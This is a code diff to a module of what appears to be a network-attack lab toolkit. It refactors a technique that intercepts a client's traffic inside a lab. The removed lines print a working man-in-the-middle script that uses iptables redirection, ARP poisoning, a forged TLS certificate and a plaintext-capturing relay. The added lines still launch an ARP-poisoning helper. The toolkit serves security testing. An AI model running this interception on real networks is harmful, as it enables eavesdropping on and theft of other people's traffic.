@@ -16,11 +16,12 @@ from concurrent.futures import ThreadPoolExecutor, wait
 from dataclasses import dataclass, field
 from typing import TYPE_CHECKING
 
+from labkit import agents
 from labkit.errors import ProbeError, ProbeTimeout
 from labkit.lab.pki import Authority
 from labkit.model import Channel, Foothold, Model, read_model
 from labkit.techniques._base import ROOT_ON_WORKER, Prediction, Technique
-from labkit.techniques._capture import POISON, believed, forget, place_of
+from labkit.techniques._capture import believed, forget, place_of
 from labkit.techniques._reach import inside, run
 from labkit.techniques._verdict import Verdict
 
@@ -31,96 +32,6 @@ __all__ = ["ANSWER", "Trap", "stand", "technique"]
 
 #: What the false server says to whoever asks it over TLS.
 ANSWER = b"labkit: this is not what you asked for\n"
-FAKE = """
-import base64, json, os, re, select, signal, socket, ssl, struct, subprocess, sys, tempfile
-import threading, time
-job = json.load(sys.stdin)
-signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
-context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-context.set_alpn_protocols(["http/1.1"])
-with tempfile.NamedTemporaryFile("w", dir="/dev/shm") as file:
-    file.write(job["pem"])
-    file.flush()
-    context.load_cert_chain(file.name)
-seen, enough = [], threading.Event()
-def relay(client):
-    port, address = struct.unpack("!2xH4s8x", client.getsockopt(socket.SOL_IP, 80, 16))
-    said = b""
-    with socket.create_connection((socket.inet_ntoa(address), port), timeout=5) as server:
-        while not stop.is_set():
-            ready = select.select([client, server], [], [], 0.2)[0]
-            for one in ready:
-                data = one.recv(65536)
-                if not data:
-                    return
-                (server if one is client else client).sendall(data)
-                if one is client:
-                    said = (said + data)[-200000:]
-                    if job["wanted"].encode() in said:
-                        seen.append({"plaintext": base64.b64encode(said[-2000:]).decode()})
-                        enough.set()
-def serve(connection):
-    connection.settimeout(5)
-    start = connection.recv(2, socket.MSG_PEEK)
-    if start != b"\\x16\\x03":
-        return relay(connection)
-    try:
-        with context.wrap_socket(connection, server_side=True) as wrapped:
-            asked = wrapped.recv(4096)
-            if not asked:
-                return
-            seen.append({"tls": base64.b64encode(asked).decode()})
-            answer = job["answer"].encode()
-            head = b"HTTP/1.1 200 OK\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n"
-            wrapped.sendall(head % len(answer) + answer)
-    except ssl.SSLError as error:
-        found = re.search("ALERT_([A-Z_]+)", str(error.reason))
-        if not found:
-            return
-        seen.append({"alert": found[1].lower().replace("_", " ")})
-    enough.set()
-def quiet(connection):
-    try:
-        with connection:
-            serve(connection)
-    except OSError:
-        pass
-def accept():
-    while True:
-        try:
-            connection = listener.accept()[0]
-        except OSError:
-            return
-        threading.Thread(target=quiet, args=(connection,), daemon=True).start()
-stop = threading.Event()
-listener = socket.create_server(("0.0.0.0", 0))
-threading.Thread(target=accept, daemon=True).start()
-own = str(listener.getsockname()[1])
-def rules(action):
-    for server in job["servers"]:
-        match = ["-p", "tcp", "-s", job["client"], "-d", server, "--dport", str(job["port"]),
-                 "-m", "comment", "--comment", "labkit-middle", "-j"]
-        for table, chain, *then in (
-            ("nat", "PREROUTING", "REDIRECT", "--to-ports", own),
-            ("filter", "FORWARD", "REJECT", "--reject-with", "tcp-reset"),
-        ):
-            subprocess.run(["iptables", "-w", "5", "-t", table, action, chain, *match, *then])
-pairs = [word for server in job["servers"] for word in (job["client"], server)]
-poison = None
-try:
-    rules("-I")
-    poison = subprocess.Popen([sys.executable, "-c", job["poison"], *pairs])
-    enough.wait(job["seconds"])
-    time.sleep(0.2)
-finally:
-    if poison:
-        poison.kill()
-        poison.wait()
-    rules("-D")
-    stop.set()
-    listener.close()
-print(json.dumps(seen))
-"""
 #: Seconds that the false server stays, and that a call is given to get to it. One that goes over
 #: a kept connection that is reset is lost: the client is made to call again.
 STAY, CALL = 20, 4
@@ -214,18 +125,20 @@ def _meet(
     leaf = Authority.create("labkit-stranger-ca").issue(
         servers[0], hosts=[*servers, "localhost"], usages=["server"]
     )
+    address, addresses = inside(lab, client), [inside(lab, server) for server in servers]
     job = {
-        "pem": f"{leaf.certificate.decode()}\n{leaf.key.decode()}",
-        "client": inside(lab, client),
-        "servers": [inside(lab, server) for server in servers],
+        "certificate_pem": leaf.certificate.decode(),
+        "key_pem": leaf.key.decode(),
+        "client": address,
+        "servers": addresses,
         "port": found[0].port,
         "wanted": trap.wanted,
         "answer": ANSWER.decode(),
-        "poison": POISON,
+        "lead": agents.argv("arp_poison", *(word for it in addresses for word in (address, it))),
         "seconds": STAY,
     }
     told = [(client, server) for server in servers]
-    argv = ["python3", "-c", FAKE]
+    argv = agents.argv("fake_server")
     with ThreadPoolExecutor(max_workers=1) as pool:
         stdin = json.dumps(job).encode()
         future = pool.submit(run, lab, here, argv, stdin=stdin, timeout=STAY + 20, check=True)
